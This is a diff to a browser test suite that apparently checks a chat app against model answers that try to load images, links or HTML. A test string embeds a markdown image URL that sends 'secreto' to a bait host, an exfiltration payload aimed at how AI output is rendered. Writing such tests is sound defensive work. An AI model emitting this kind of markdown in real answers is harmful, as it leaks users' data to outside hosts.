@@ -10,7 +10,7 @@ from urllib.parse import urlsplit
 
 import pytest
 
-from fake_servers import FakeOpenAI, ok
+from fake_servers import FakeOpenAI, listed, ok
 
 VIEWPORTS = {"desktop": dict(viewport={"width": 1280, "height": 800}),
              "phone": dict(viewport={"width": 390, "height": 844}, device_scale_factor=2, is_mobile=True,
@@ -190,7 +190,7 @@ MALICIOUS = ("Respuesta: ![x](http://{host}/img.png?q=secreto) y [pulsa](http://
 
 
 def test_an_answer_that_tries_to_load_images_links_or_html_makes_no_request(browser, app_launcher, tmp_path):
-    with FakeOpenAI() as model, FakeOpenAI() as bait:
+    with FakeOpenAI(models=[listed("m")]) as model, FakeOpenAI() as bait:
         host = urlsplit(bait.base_url).netloc
         model.default = ok(MALICIOUS.format(host=host))
         models = tmp_path / "models.yaml"
